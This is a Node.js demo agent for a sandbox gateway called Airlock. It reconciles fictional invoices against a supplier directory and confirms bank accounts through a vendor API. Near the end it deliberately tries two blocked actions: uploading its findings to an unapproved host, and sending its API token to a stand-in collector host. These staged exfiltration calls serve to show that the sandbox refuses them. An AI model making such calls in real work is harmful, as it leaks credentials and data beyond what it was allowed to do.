#!/usr/bin/env node
// Airlock demo agent: an invoice reviewer. Reconciles the invoices in <in>/invoices (*.json, or
// *.csv with one row per invoice line) against the supplier directory <in>/suppliers.csv, confirms
// the bank accounts of the suppliers it flagged with the vendor API ($VENDOR_API, key in
// $VENDOR_TOKEN), and writes <out>/report.md and <out>/findings.json. Then it shows what Airlock
// stops: an upload to a host that is not allowed, and its token sent to another host.
// Plain Node 24 (fetch goes through the sandbox's proxy because NODE_USE_ENV_PROXY=1), no
// dependencies. Every company, account and domain in the sample data is fictional.
'use strict';

const fs = require('node:fs');
const http = require('node:http');
const path = require('node:path');

const IN = process.env.AIRLOCK_DEMO_IN || '/workspace/in';
const OUT = process.env.AIRLOCK_DEMO_OUT || '/workspace/out';
const TOLERANCE = Number(process.env.TOLERANCE_CENTS || '1'); // rounding slack, in cents

const step = (text) => console.log(text);
const warn = (text) => console.error(`warning: ${text}`);

// ---- parsing -------------------------------------------------------------------------------

/** RFC 4180-ish CSV: quoted fields may hold commas, quotes ("") and newlines. */
function parseCsv(text) {
  const rows = [];
  let row = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { field += '"'; i++; }
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { row.push(field); field = ''; }
    else if (c === '\n' || c === '\r') {
      if (c === '\r' && text[i + 1] === '\n') i++;
      row.push(field); rows.push(row); row = []; field = '';
    } else field += c;
  }
  if (field !== '' || row.length) { row.push(field); rows.push(row); }
  const nonEmpty = rows.filter((r) => r.some((f) => f.trim() !== ''));
  const [header = [], ...body] = nonEmpty;
  return body.map((r) => Object.fromEntries(header.map((h, i) => [h.trim(), (r[i] || '').trim()])));
}

const cents = (value) => Math.round(Number(value) * 100);
const money = (c) => (c / 100).toLocaleString('en-US', { minimumFractionDigits: 2, maximumFractionDigits: 2 });
const normIban = (iban) => String(iban || '').replace(/\s+/g, '').toUpperCase();
const normName = (name) => String(name || '').toLowerCase()
  .replace(/[.,&]/g, ' ')
  .replace(/\b(gmbh|ltd|limited|inc|llc|b ?v|ab|sa|oy|plc|co)\b/g, ' ')
  .replace(/\s+/g, ' ').trim();

function readSuppliers(file) {
  return parseCsv(fs.readFileSync(file, 'utf8')).map((s) => ({
    id: s.supplier_id, name: s.name, vatId: s.vat_id, iban: s.iban,
    limit: cents(s.approval_limit), currency: s.currency, email: s.contact_email,
  }));
}

function invoiceFromJson(doc, source) {
  return {
    source, number: doc.invoiceNumber, supplier: doc.supplier || {},
    issueDate: doc.issueDate, dueDate: doc.dueDate, currency: doc.currency,
    lines: (doc.lines || []).map((l) => ({ description: l.description, quantity: Number(l.quantity), unitPrice: cents(l.unitPrice), vatRate: Number(l.vatRate) })),
    subtotal: cents(doc.subtotal), vat: cents(doc.vat), total: cents(doc.total),
  };
}

/** A CSV export holds one row per invoice line; rows of one invoice repeat its header fields. */
function invoicesFromCsv(text, source) {
  const byNumber = new Map();
  for (const row of parseCsv(text)) {
    if (!row.invoice_number) { warn(`${source}: a row without invoice_number was skipped`); continue; }
    let inv = byNumber.get(row.invoice_number);
    if (!inv) {
      inv = {
        source, number: row.invoice_number,
        supplier: { name: row.supplier_name, vatId: row.supplier_vat_id, iban: row.supplier_iban },
        issueDate: row.issue_date, dueDate: row.due_date, currency: row.currency, lines: [],
        subtotal: cents(row.invoice_subtotal), vat: cents(row.invoice_vat), total: cents(row.invoice_total),
      };
      byNumber.set(row.invoice_number, inv);
    }
    inv.lines.push({ description: row.description, quantity: Number(row.quantity), unitPrice: cents(row.unit_price), vatRate: Number(row.vat_rate) });
  }
  return [...byNumber.values()];
}

function readInvoices(dir) {
  const invoices = [];
  const names = fs.readdirSync(dir).sort();
  const usable = names.filter((name) => ['.json', '.csv'].includes(path.extname(name).toLowerCase()));
  for (const name of names.filter((n) => !usable.includes(n))) warn(`skipping ${name}: not a .json or .csv invoice`);
  step(`reading ${usable.length} invoice file(s) from ${dir}`);
  for (const name of usable) {
    const file = path.join(dir, name);
    const ext = path.extname(name).toLowerCase();
    try {
      const text = fs.readFileSync(file, 'utf8');
      if (ext === '.json') invoices.push(invoiceFromJson(JSON.parse(text), name));
      else invoices.push(...invoicesFromCsv(text, name));
    } catch (err) {
      warn(`skipping ${name}: cannot be read (${err.message})`);
    }
  }
  return invoices;
}

// ---- checks --------------------------------------------------------------------------------

function findSupplier(suppliers, party) {
  const vat = String(party.vatId || '').replace(/\s+/g, '').toUpperCase();
  return suppliers.find((s) => vat && s.vatId.replace(/\s+/g, '').toUpperCase() === vat)
    || suppliers.find((s) => normName(s.name) === normName(party.name));
}

function checkTotals(inv) {
  const problems = [];
  const lineSum = inv.lines.reduce((sum, l) => sum + Math.round(l.quantity * l.unitPrice), 0);
  const vatSum = inv.lines.reduce((sum, l) => sum + Math.round(l.quantity * l.unitPrice * l.vatRate), 0);
  const off = (a, b) => Math.abs(a - b) > TOLERANCE;
  if (off(lineSum, inv.subtotal)) problems.push(`line items add up to ${money(lineSum)} but the subtotal says ${money(inv.subtotal)} (difference ${money(inv.subtotal - lineSum)})`);
  if (off(vatSum, inv.vat)) problems.push(`VAT on the line items is ${money(vatSum)} but the invoice says ${money(inv.vat)}`);
  if (off(inv.subtotal + inv.vat, inv.total)) problems.push(`subtotal + VAT is ${money(inv.subtotal + inv.vat)} but the total says ${money(inv.total)}`);
  return problems;
}

function review(invoices, suppliers) {
  const findings = [];
  const flag = (inv, check, severity, message, extra = {}) => {
    findings.push({ invoice: inv.number, source: inv.source, supplier: inv.supplier.name, check, severity, message, ...extra });
    step(`${inv.number}: ${message} — flagged`);
  };
  const seen = new Map();
  for (const inv of invoices) {
    step(`${inv.number}: checking ${inv.lines.length} line(s) from ${inv.supplier.name || 'an unnamed supplier'}, total ${inv.currency} ${money(inv.total)}`);
    const supplier = findSupplier(suppliers, inv.supplier);
    if (!supplier) {
      flag(inv, 'unknown-supplier', 'high', `supplier '${inv.supplier.name}' is not in the supplier directory`);
    } else {
      if (normIban(inv.supplier.iban) !== normIban(supplier.iban)) {
        flag(inv, 'bank-account-mismatch', 'high', `supplier '${inv.supplier.name}' bank account differs from directory`, {
          invoiceIban: inv.supplier.iban, directoryIban: supplier.iban,
        });
      }
      if (inv.total > supplier.limit) {
        flag(inv, 'over-approval-limit', 'medium', `total ${money(inv.total)} is over ${supplier.name}'s approval limit of ${money(supplier.limit)} (needs a second approver)`);
      }
      if (inv.currency !== supplier.currency) warn(`${inv.number}: billed in ${inv.currency}, directory says ${supplier.currency}`);
    }
    for (const problem of checkTotals(inv)) flag(inv, 'totals-mismatch', 'medium', problem);
    const key = `${supplier ? supplier.id : normName(inv.supplier.name)}|${inv.number}`;
    if (seen.has(key)) {
      flag(inv, 'duplicate-invoice', 'high', `invoice number already seen in ${seen.get(key)} (possible double payment)`);
    } else seen.set(key, inv.source);
  }
  return findings;
}

// ---- the vendor API, through Airlock's gateway -----------------------------------------------

const VENDOR_API = (process.env.VENDOR_API || 'https://api.vendor.test:18443').replace(/\/+$/, '');
const TOKEN = process.env.VENDOR_TOKEN || '';
const groupIban = (iban) => normIban(iban).replace(/(.{4})(?=.)/g, '$1 ');

/** What a failed request says: "fetch failed, cause: <the innermost cause>". */
function explain(err) {
  let cause = err;
  while (cause.cause instanceof Error) cause = cause.cause;
  return cause === err ? err.message : `${err.message}, cause: ${cause.message}`;
}

/** The placeholder is a JWT: its payload (not secret) says what it is good for. */
function describeToken(token) {
  try {
    const claims = JSON.parse(Buffer.from(token.split('.')[1], 'base64url').toString('utf8'));
    const hosts = [].concat(claims.aud || []).join(', ');
    const until = claims.exp ? new Date(claims.exp * 1000).toISOString().slice(11, 19) : '?';
    return `a placeholder from ${claims.iss || 'someone'} (${token.slice(0, 16)}…) for ${hosts}, valid until ${until} UTC; the real key never enters this sandbox`;
  } catch {
    return `${token.length} characters, not a JWT`;
  }
}

/** GET <VENDOR_API>/v1/suppliers/<id>/bank-account for each supplier that has a finding. */
async function confirmBankAccounts(invoices, suppliers, findings) {
  const flaggedInvoices = new Set(findings.map((f) => `${f.invoice}|${f.source}`));
  const bySupplier = new Map();
  for (const inv of invoices) {
    const supplier = findSupplier(suppliers, inv.supplier);
    if (!supplier) continue; // not in the directory: there is no account to confirm
    if (!bySupplier.has(supplier.id)) bySupplier.set(supplier.id, { supplier, invoices: [], flagged: false });
    const entry = bySupplier.get(supplier.id);
    entry.invoices.push(inv);
    if (flaggedInvoices.has(`${inv.number}|${inv.source}`)) entry.flagged = true;
  }
  const toCheck = [...bySupplier.values()].filter((e) => e.flagged);
  step(`confirming bank accounts with the vendor API ${VENDOR_API} for the ${toCheck.length} supplier(s) with findings`);
  step(`  $VENDOR_TOKEN is ${describeToken(TOKEN)}`);
  const checks = [];
  for (const { supplier, invoices: theirs } of toCheck) {
    const url = `${VENDOR_API}/v1/suppliers/${encodeURIComponent(supplier.id)}/bank-account`;
    step(`${supplier.id} ${supplier.name}: GET ${url}`);
    const check = { supplierId: supplier.id, supplier: supplier.name, directoryIban: supplier.iban, vendorIban: null, status: null, result: 'not-confirmed', invoices: [] };
    try {
      const res = await fetch(url, { headers: { authorization: `Bearer ${TOKEN}`, accept: 'application/json' }, signal: AbortSignal.timeout(15_000) });
      check.status = res.status;
      const text = await res.text();
      if (!res.ok) throw new Error(`the vendor API answered ${res.status}: ${text.trim().slice(0, 200)}`);
      check.vendorIban = JSON.parse(text).iban;
    } catch (err) {
      check.error = explain(err);
      warn(`${supplier.id}: could not confirm the bank account: ${check.error}`);
      checks.push(check);
      continue;
    }
    const vendor = normIban(check.vendorIban);
    const directoryOk = normIban(supplier.iban) === vendor;
    for (const inv of theirs) check.invoices.push({ invoice: inv.number, source: inv.source, iban: inv.supplier.iban, matches: normIban(inv.supplier.iban) === vendor });
    const wrong = check.invoices.filter((i) => !i.matches);
    check.result = !directoryOk ? 'directory-differs' : wrong.length > 0 ? 'invoice-differs' : 'confirmed';
    step(`${supplier.id}: the vendor confirms ${groupIban(check.vendorIban)}${directoryOk ? ', as in the directory' : `, but the directory says ${supplier.iban}`}`);
    for (const i of wrong) {
      step(`${supplier.id}: ${i.invoice} (${i.source}) asks for payment to ${i.iban}, which is NOT ${supplier.name}'s account: do not pay`);
      for (const f of findings) {
        if (f.invoice === i.invoice && f.source === i.source && f.check === 'bank-account-mismatch') Object.assign(f, { vendorIban: check.vendorIban, vendorConfirms: 'directory' });
      }
    }
    checks.push(check);
  }
  if (checks.length > 0 && checks.every((c) => !c.vendorIban)) warn('no bank account could be confirmed; the pretend vendor API runs only while `npm run demo` (scripts/demo.mjs) runs');
  return checks;
}

/** An upload to a host that is not in the allowlist: the gateway refuses the tunnel, so fetch throws. */
async function tryUpload(findings) {
  const url = 'https://files.sharing.test/upload';
  step(`trying to upload the findings to ${url} (a host this task was not given)`);
  const attempt = { what: 'upload to a host that is not allowed', url, refused: false };
  try {
    const res = await fetch(url, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(findings), signal: AbortSignal.timeout(15_000) });
    attempt.status = res.status;
    attempt.refused = res.status === 403;
    attempt.detail = (await res.text()).trim();
    step(attempt.refused ? `refused: ${attempt.detail}` : `NOT refused: the upload got ${res.status}`);
  } catch (err) {
    attempt.detail = explain(err);
    attempt.refused = /\b403\b/.test(attempt.detail); // the proxy's answer to the tunnel request
    step(`${attempt.refused ? 'refused' : 'failed'}: ${attempt.detail}`);
    if (attempt.refused) step('  (the gateway would not open a tunnel to that host; the action log says why: "refused CONNECT files.sharing.test:443 …")');
  }
  return attempt;
}

/**
 * Its token sent to another host, in a header of a plain-HTTP request (node:http sends it to the
 * proxy as is; fetch would tunnel even plain HTTP, where the gateway sees only the host name).
 */
function trySendToken() {
  const url = 'http://collector.test/collect';
  step(`trying to send $VENDOR_TOKEN to ${url} in an Authorization header`);
  const attempt = { what: 'the token sent to another host', url, refused: false };
  return new Promise((resolve) => {
    const req = http.request(url, { method: 'POST', headers: { authorization: `Bearer ${TOKEN}`, 'content-type': 'text/plain' }, timeout: 15_000 }, (res) => {
      let body = '';
      res.setEncoding('utf8');
      res.on('data', (chunk) => (body += chunk));
      res.on('end', () => {
        Object.assign(attempt, { status: res.statusCode, refused: res.statusCode === 403, detail: body.trim() });
        step(attempt.refused ? `refused with 403: ${attempt.detail}` : `NOT refused: got ${res.statusCode}`);
        resolve(attempt);
      });
    });
    req.on('timeout', () => req.destroy(new Error('no answer in 15s')));
    req.on('error', (err) => {
      attempt.detail = explain(err);
      step(`failed: ${attempt.detail}`);
      resolve(attempt);
    });
    req.end('exfiltration attempt\n');
  });
}

// ---- output --------------------------------------------------------------------------------

function renderReport(invoices, suppliers, findings, network) {
  const flagged = new Set(findings.map((f) => `${f.invoice}|${f.source}`));
  const clean = invoices.filter((inv) => !flagged.has(`${inv.number}|${inv.source}`));
  const total = invoices.reduce((sum, inv) => sum + inv.total, 0);
  const held = invoices.filter((inv) => flagged.has(`${inv.number}|${inv.source}`)).reduce((sum, inv) => sum + inv.total, 0);
  const lines = [
    '# Invoice reconciliation report',
    '',
    `Generated ${new Date().toISOString()} by the Airlock demo agent.`,
    '',
    `- Invoices reviewed: **${invoices.length}** (total ${money(total)})`,
    `- Suppliers in directory: **${suppliers.length}**`,
    `- Findings: **${findings.length}** on ${flagged.size} invoice(s); ${money(held)} should be held until resolved`,
    `- Clean, ready to pay: ${clean.map((inv) => inv.number).join(', ') || 'none'}`,
    '',
    '## Findings',
    '',
  ];
  if (findings.length === 0) lines.push('No problems found.');
  else {
    lines.push('| Invoice | File | Supplier | Check | Severity | Details |', '|---|---|---|---|---|---|');
    const esc = (s) => String(s == null ? '' : s).replace(/\|/g, '\\|');
    for (const f of findings) {
      const detail = f.check === 'bank-account-mismatch'
        ? `${f.message}: invoice ${f.invoiceIban}, directory ${f.directoryIban}${f.vendorConfirms === 'directory' ? ' (the vendor API confirms the directory\'s account)' : ''}`
        : f.message;
      lines.push(`| ${esc(f.invoice)} | ${esc(f.source)} | ${esc(f.supplier)} | ${f.check} | ${f.severity} | ${esc(detail)} |`);
    }
  }
  lines.push('', '## Bank accounts confirmed with the vendor API', '');
  if (network.skipped) lines.push(`Not checked: ${network.skipped}.`);
  else if (network.checks.length === 0) lines.push('No supplier in the directory had a finding: nothing to confirm.');
  else {
    lines.push(`Asked ${VENDOR_API} for the bank account of each supplier with a finding, with the credential Airlock lent this task.`, '');
    lines.push('| Supplier | ID | Account per the vendor API | Directory | Invoices | Result |', '|---|---|---|---|---|---|');
    const results = { confirmed: 'confirmed', 'invoice-differs': '**an invoice asks for another account: do not pay it**', 'directory-differs': '**the directory is out of date**', 'not-confirmed': 'not confirmed' };
    for (const c of network.checks) {
      const label = (i) => (c.invoices.filter((j) => j.invoice === i.invoice).length > 1 ? `${i.invoice} (${i.source})` : i.invoice);
      const theirs = c.invoices.map((i) => (i.matches ? `${label(i)} ok` : `${label(i)} pays ${i.iban}`)).join('; ');
      const vendor = c.vendorIban ? groupIban(c.vendorIban) : `— (${String(c.error || c.status).replace(/\|/g, '\\|')})`;
      const directory = c.vendorIban ? (normIban(c.directoryIban) === normIban(c.vendorIban) ? 'matches' : `differs: ${c.directoryIban}`) : c.directoryIban;
      lines.push(`| ${c.supplier.replace(/\|/g, '\\|')} | ${c.supplierId} | ${vendor} | ${directory} | ${theirs || '—'} | ${results[c.result]} |`);
    }
  }
  if (!network.skipped) {
    lines.push('', '## Network attempts refused by Airlock', '', 'The agent also tried, on purpose, what it should not be able to do:', '');
    for (const a of network.attempts) lines.push(`- ${a.what} (${a.url}): ${a.refused ? 'refused' : '**not refused by Airlock**'}${a.detail ? ` — ${a.detail.split('\n')[0]}` : ''}`);
  }
  lines.push('', '## All invoices', '', '| Invoice | File | Supplier | Issued | Due | Total | Status |', '|---|---|---|---|---|---|---|');
  for (const inv of invoices) {
    const status = flagged.has(`${inv.number}|${inv.source}`) ? 'hold' : 'ok';
    lines.push(`| ${inv.number} | ${inv.source} | ${inv.supplier.name} | ${inv.issueDate} | ${inv.dueDate} | ${inv.currency} ${money(inv.total)} | ${status} |`);
  }
  lines.push('');
  return lines.join('\n');
}

async function main() {
  const invoiceDir = path.join(IN, 'invoices');
  const supplierFile = path.join(IN, 'suppliers.csv');
  step(`reading supplier directory ${supplierFile}`);
  const suppliers = readSuppliers(supplierFile);
  step(`found ${suppliers.length} suppliers`);
  const invoices = readInvoices(invoiceDir);
  step(`loaded ${invoices.length} invoices`);
  const findings = review(invoices, suppliers);

  const network = { checks: [], attempts: [], skipped: undefined };
  if (!TOKEN) {
    network.skipped = 'no vendor credential was lent to this run ($VENDOR_TOKEN is not set)';
    step(`skipping the vendor API check and the network steps: ${network.skipped}`);
  } else {
    network.checks = await confirmBankAccounts(invoices, suppliers, findings);
    network.attempts.push(await tryUpload(findings));
    network.attempts.push(await trySendToken());
  }

  fs.mkdirSync(OUT, { recursive: true });
  const reportFile = path.join(OUT, 'report.md');
  const findingsFile = path.join(OUT, 'findings.json');
  fs.writeFileSync(reportFile, renderReport(invoices, suppliers, findings, network));
  step(`wrote ${reportFile}`);
  const confirmed = network.checks.filter((c) => c.vendorIban).length;
  const summary = { invoices: invoices.length, suppliers: suppliers.length, findings: findings.length, bankAccountsConfirmed: confirmed };
  const bankAccounts = network.skipped ? { skipped: network.skipped } : { vendorApi: VENDOR_API, checks: network.checks };
  fs.writeFileSync(findingsFile, `${JSON.stringify({ summary, findings, bankAccounts, networkAttempts: network.attempts }, null, 2)}\n`);
  step(`wrote ${findingsFile}`);
  const held = new Set(findings.map((f) => `${f.invoice}|${f.source}`)).size;
  if (held > 0) warn(`${held} invoice(s) must be held before payment: see ${reportFile}`);
  step(`done: ${findings.length} finding(s) in ${invoices.length} invoices${network.skipped ? '' : `, ${confirmed} bank account(s) confirmed with the vendor`}`);
}

main().catch((err) => {
  console.error(`error: ${err.message}`);
  process.exitCode = 1;
});
